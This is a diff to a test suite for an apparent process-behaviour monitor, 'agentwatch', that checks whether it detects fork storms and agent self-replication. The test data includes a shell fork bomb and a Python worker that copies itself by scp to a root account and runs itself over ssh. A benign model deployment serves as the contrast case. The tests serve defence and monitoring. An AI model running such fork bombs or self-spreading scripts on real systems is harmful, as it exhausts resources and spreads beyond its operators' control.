@@ -40,7 +40,7 @@ status: test
 logsource: {product: agentwatch, category: process_behaviour}
 detection: {selection: {Kind|exists: true}, condition: selection}
 level: high
-agentwatch: {response: kill, scope: agent}
+agentwatch: {response: RESPONSE, scope: agent}
 """
 
 
@@ -61,11 +61,14 @@ def network() -> Iterator[Network]:
         yield Network(lab, host)
 
 
-def events(command: list[str], tmp_path: Path) -> list[dict[str, Any]]:
-    """What a command is told of; its trace replays to the same alerts."""
+def events(command: list[str], tmp_path: Path, response: str = "kill") -> list[dict[str, Any]]:
+    """What a command is told of; its trace replays to the same alerts.
+
+    `response` is that to behaviour of processes.
+    """
     alerts, trace, again = tmp_path / "alerts", tmp_path / "trace", tmp_path / "again"
     rules = tmp_path / "rules.yml"
-    rules.write_text(RULES)
+    rules.write_text(RULES.replace("RESPONSE", response))
     with_rules = ["--rules", str(rules), "--alerts"]
     run = [sys.executable, "-m", "agentwatch", "run", "--mode", "enforce", *with_rules, str(alerts)]
     subprocess.run(
@@ -142,14 +145,36 @@ def test_volume_within_the_cluster(network: Network, tmp_path: Path) -> None:
     assert events(command, tmp_path) == []
 
 
-@pytest.mark.parametrize(("bomb", "user"), [("shell", 64123), ("program", 64124)])
-def test_fork_bombs(tmp_path: Path, bomb: str, user: int) -> None:
-    """Of a user who may have 200 processes, and has no others."""
+@pytest.mark.parametrize(("bomb", "user", "most"), [("shell", 64123, 200), ("program", 64124, 500)])
+def test_fork_bombs(tmp_path: Path, bomb: str, user: int, most: int) -> None:
+    """Of a user who may have so many processes, and has no others."""
     command = {"shell": ["bash", "-c", ":(){ :|:& };:"], "program": [str(compiled("fork_bomb"))]}[bomb]
-    limit = ["prlimit", "--nproc=200", "setpriv", f"--reuid={user}", "--clear-groups"]
+    limit = ["prlimit", f"--nproc={most}", "setpriv", f"--reuid={user}", "--clear-groups"]
     (event, *_) = of_kind(events([*limit, *command], tmp_path), "fork_storm")
     assert event["Forks"] <= 1024
     assert event["Depth"] >= 3
+
+
+def test_a_script_that_spreads(tmp_path: Path) -> None:
+    worker = tmp_path / "worker.py"
+    worker.write_text(
+        "import subprocess\n"
+        "quiet = ['-o', 'ConnectTimeout=1', '-o', 'BatchMode=yes']\n"
+        "subprocess.run(['scp', *quiet, 'worker.py', 'root@127.0.0.9:/tmp/w.py'])\n"
+        "subprocess.run(['ssh', *quiet, 'root@127.0.0.9', 'python3 /tmp/w.py'])\n"
+    )
+    command = _own_network("sh", "-c", f"cd {tmp_path} && exec /usr/bin/python3 worker.py")
+    found = events(command, tmp_path, response="alert")
+    assert [event["Kind"] for event in found] == ["self_transfer", "self_replication"]
+    assert found[1]["SourceFilename"] == str(worker)
+
+
+def test_a_deployment(tmp_path: Path) -> None:
+    for name in ("model.bin", "deploy.sh"):
+        (tmp_path / name).touch()
+    quiet = "-o ConnectTimeout=1 -o BatchMode=yes"
+    lines = f"cd {tmp_path}; scp {quiet} model.bin 127.0.0.9:; ssh {quiet} 127.0.0.9 python3 serve.py; true"
+    assert events(_own_network("bash", "-c", lines), tmp_path) == []
 
 
 def test_a_parallel_build(tmp_path: Path) -> None:
